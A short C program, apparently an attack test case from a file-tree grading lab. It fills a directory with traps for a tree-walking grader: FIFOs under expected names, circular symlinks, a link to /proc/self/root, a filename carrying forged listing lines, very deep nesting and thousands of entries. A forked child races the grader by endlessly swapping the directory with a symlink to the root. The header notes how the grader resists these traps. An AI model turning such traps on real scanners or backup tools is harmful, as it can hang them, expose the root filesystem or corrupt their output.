/* SPDX-License-Identifier: MIT */
/*
 * image-traps.c - a DIR that whoever looks at it does not come out of
 *
 * Attack: traps in the tree that is graded
 * Lab: 10-image
 * Stopped: the grader looks in a process of its own, with a deadline; it opens
 *          nothing but regular files and folders, follows no link and goes
 *          sixteen folders deep
 *
 * Where DIR should be there are FIFOs with the names that are wanted, links in
 * a circle, a file whose name has lines of a listing in it, a folder a hundred
 * deep, and thousands of names.  A child stays, and keeps exchanging DIR and a
 * link to the root.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { DEPTH = 100, NAMES = 3000, EXCHANGE = 2 /* RENAME_EXCHANGE */ };

static void fill(void)
{
	static const char *const fifos[] = { "motd", "etc", "keep", "gone" };
	char name[32];

	for (size_t i = 0; i < sizeof(fifos) / sizeof(fifos[0]); i++)
		(void)mkfifo(fifos[i], 0644);
	(void)symlink("circle", "circle");
	(void)symlink("/proc/self/root", "again");
	(void)mkdir("full folder 0755\nkeep file 0644 links=1 32 \"x\"", 0755);
	for (int i = 0; i < NAMES; i++) {
		snprintf(name, sizeof(name), "name%d", i);
		(void)close(open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	}
	for (int i = 0; i < DEPTH; i++) {
		if (mkdir("deeper", 0755) < 0 || chdir("deeper") < 0)
			break;
	}
}

int main(void)
{
	(void)mkdir("/work/image", 0755);
	(void)symlink("/", "/work/image.link");
	if (chdir("/work/image") == 0)
		fill();
	if (fork() == 0) {
		for (;;)
			(void)syscall(SYS_renameat2, AT_FDCWD, "/work/image",
				      AT_FDCWD, "/work/image.link", EXCHANGE);
	}
	return 0;
}
